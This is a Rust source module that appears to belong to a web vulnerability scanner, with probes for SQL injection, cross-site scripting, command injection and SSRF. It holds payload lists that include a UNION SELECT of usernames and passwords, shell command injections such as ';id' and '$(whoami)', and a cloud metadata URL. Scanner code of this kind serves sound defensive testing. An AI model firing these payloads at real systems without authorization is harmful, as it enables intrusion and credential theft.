use super::{body_contains_any, probe_forms, probe_url_params, ProbeModule};
use crate::crawler::CrawlResult;
use crate::http::{HttpClient, HttpResponse};
use crate::orchestrator::FindingCollector;
use crate::types::{Target, VulnerabilityClass};
use crate::Result;
use async_trait::async_trait;
use log::info;

pub const SQLI_PAYLOADS: &[&str] = &[
    "'",
    "\"",
    "' OR '1'='1",
    "\" OR \"1\"=\"1",
    "' OR 1=1--",
    "admin'--",
    "1 AND 1=1",
    "1 AND 1=2",
    "1' ORDER BY 1--",
    "1' ORDER BY 10--",
    "1' UNION SELECT null,username,password FROM users--",
];

const SQL_ERROR_MARKERS: &[&str] = &["error", "syntax", "mysql", "ora-", "sql"];
const SQLI_FIELD_TYPES: &[&str] = &["text", "password", "hidden"];

pub const XSS_PAYLOADS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "\"><script>alert('XSS')</script>",
    "javascript:alert('XSS')",
    "onmouseover=alert('XSS')",
    "<svg/onload=alert('XSS')>",
];

const XSS_FIELD_TYPES: &[&str] = &["text", "textarea", "search"];

pub const CMDI_PAYLOADS: &[&str] = &[
    ";id",
    "|id",
    "`id`",
    "$(id)",
    "|| id",
    "&& id",
    "; whoami",
    "| whoami",
    "`whoami`",
    "$(whoami)",
];

const CMDI_MARKERS: &[&str] = &["uid=", "gid=", "groups=", "windows nt"];

pub const SSRF_PAYLOADS: &[&str] = &[
    "http://169.254.169.254/latest/meta-data/",
    "http://localhost/admin",
    "http://127.0.0.1:8080",
];

const SSRF_MARKERS: &[&str] = &["aws", "ec2", "metadata", "admin"];

/// Database error text in the response after injecting quote, boolean or
/// UNION payloads into URL parameters and text-like form fields.
pub struct SqlInjectionProbe;

#[async_trait]
impl ProbeModule for SqlInjectionProbe {
    fn name(&self) -> &'static str {
        "sqli"
    }

    fn class(&self) -> VulnerabilityClass {
        VulnerabilityClass::SqlInjection
    }

    async fn run(
        &self,
        _target: &Target,
        crawl: &CrawlResult,
        client: &dyn HttpClient,
        findings: &FindingCollector,
    ) -> Result<()> {
        info!("Testing for SQL Injection vulnerabilities");
        let detect = |response: &HttpResponse, _payload: &str| {
            body_contains_any(response, SQL_ERROR_MARKERS)
        };

        probe_url_params(client, crawl, self.class(), SQLI_PAYLOADS, detect, findings).await;
        probe_forms(
            client,
            crawl,
            self.class(),
            SQLI_PAYLOADS,
            SQLI_FIELD_TYPES,
            detect,
            findings,
        )
        .await;
        Ok(())
    }
}

/// Payload reflected verbatim (unescaped) in the response body. Reflection
/// alone does not prove the payload executes in its context.
pub struct XssProbe;

#[async_trait]
impl ProbeModule for XssProbe {
    fn name(&self) -> &'static str {
        "xss"
    }

    fn class(&self) -> VulnerabilityClass {
        VulnerabilityClass::CrossSiteScripting
    }

    async fn run(
        &self,
        _target: &Target,
        crawl: &CrawlResult,
        client: &dyn HttpClient,
        findings: &FindingCollector,
    ) -> Result<()> {
        info!("Testing for XSS vulnerabilities");
        let detect = |response: &HttpResponse, payload: &str| response.body.contains(payload);

        probe_url_params(client, crawl, self.class(), XSS_PAYLOADS, detect, findings).await;
        probe_forms(
            client,
            crawl,
            self.class(),
            XSS_PAYLOADS,
            XSS_FIELD_TYPES,
            detect,
            findings,
        )
        .await;
        Ok(())
    }
}

pub struct CommandInjectionProbe;

#[async_trait]
impl ProbeModule for CommandInjectionProbe {
    fn name(&self) -> &'static str {
        "cmdi"
    }

    fn class(&self) -> VulnerabilityClass {
        VulnerabilityClass::CommandInjection
    }

    async fn run(
        &self,
        _target: &Target,
        crawl: &CrawlResult,
        client: &dyn HttpClient,
        findings: &FindingCollector,
    ) -> Result<()> {
        info!("Testing for Command Injection vulnerabilities");
        let detect = |response: &HttpResponse, _payload: &str| {
            body_contains_any(response, CMDI_MARKERS)
        };
        probe_url_params(client, crawl, self.class(), CMDI_PAYLOADS, detect, findings).await;
        Ok(())
    }
}

/// Cloud metadata and loopback URLs as parameter values.
pub struct SsrfProbe;

#[async_trait]
impl ProbeModule for SsrfProbe {
    fn name(&self) -> &'static str {
        "ssrf"
    }

    fn class(&self) -> VulnerabilityClass {
        VulnerabilityClass::Ssrf
    }

    async fn run(
        &self,
        _target: &Target,
        crawl: &CrawlResult,
        client: &dyn HttpClient,
        findings: &FindingCollector,
    ) -> Result<()> {
        info!("Testing for Server-Side Request Forgery (SSRF)");
        let detect = |response: &HttpResponse, _payload: &str| {
            body_contains_any(response, SSRF_MARKERS)
        };
        probe_url_params(client, crawl, self.class(), SSRF_PAYLOADS, detect, findings).await;
        Ok(())
    }
}
